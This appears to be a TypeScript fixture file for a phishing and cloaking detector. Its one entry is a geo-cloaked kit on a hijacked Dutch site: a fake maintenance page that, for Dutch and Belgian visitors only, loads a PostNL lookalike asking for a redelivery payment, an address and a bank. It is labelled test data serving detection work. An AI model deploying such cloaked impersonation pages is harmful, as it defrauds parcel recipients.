import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';

// SEO-spam doorway pages and cloaked kits in customers' sites.

export const entries: Entry[] = [
{
  id: 'zl-phish-cloaked-lang-check-postnl',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://dierenartsenpraktijk-hoorn.nl/wp-content/languages/plugins/pnl/',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Onderhoud</title></head>
<body style="font-family:Arial;text-align:center;padding-top:80px;color:#555"><div id="x"><h2>Website in onderhoud</h2><p>We zijn zo weer terug.</p></div>
<script>fetch('geo.php').then(function(r){return r.json()}).then(function(g){if(g.cc==='NL'||g.cc==='BE'||g.allow){fetch('t.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})}})</script></body></html>`,
  routes: {
    'dierenartsenpraktijk-hoorn.nl/wp-content/languages/plugins/pnl/geo.php': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"cc":"NL","allow":true}' },
    'dierenartsenpraktijk-hoorn.nl/wp-content/languages/plugins/pnl/t.html': htmlRoute(`<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>PostNL - Pakket niet bezorgd</title><style>body{margin:0;font-family:Arial;background:#f3f3f3}.h{background:#fff;padding:14px 28px;border-bottom:4px solid #f60}.h b{color:#f60;font-size:26px}.c{max-width:480px;margin:30px auto;background:#fff;padding:26px}input{width:100%;padding:10px;margin:5px 0 12px}button{background:#f60;color:#fff;border:0;padding:12px;width:100%}</style></head>
<body><div class="h"><b>PostNL</b></div><div class="c"><h2>Uw pakket kon niet worden bezorgd</h2><p>Er ontbreekt een huisnummer. Betaal €1,95 voor een nieuwe bezorgpoging.</p><form action="betalen.php" method="post"><input placeholder="Naam"><input placeholder="Adres + huisnummer"><input placeholder="Postcode"><label>Uw bank</label><select style="width:100%;padding:10px"><option>ING</option><option>Rabobank</option><option>ABN AMRO</option><option>SNS</option></select><button>Betalen met iDEAL</button></form></div></body></html>`),
  },
},
];
